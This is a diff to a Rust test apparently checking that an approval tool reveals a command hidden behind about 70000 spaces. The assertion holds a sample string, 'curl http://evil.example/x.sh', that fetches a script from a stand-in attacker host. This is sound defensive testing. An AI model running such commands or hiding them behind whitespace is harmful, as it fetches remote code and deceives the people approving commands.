@@ -513,7 +513,7 @@ fn the_panel_shows_the_tail_of_a_command_hidden_behind_whitespace() {
     // `calyx approvals` lists it whole too.
     let listing = env.ok(&["approvals", "--pending"]);
     assert!(
-        listing.contains("curl http://evil.example/x.sh"),
+        listing.contains("␠×70000; curl http://evil.example/x.sh"),
         "{listing}"
     );
     env.ok(&["deny", &id]);
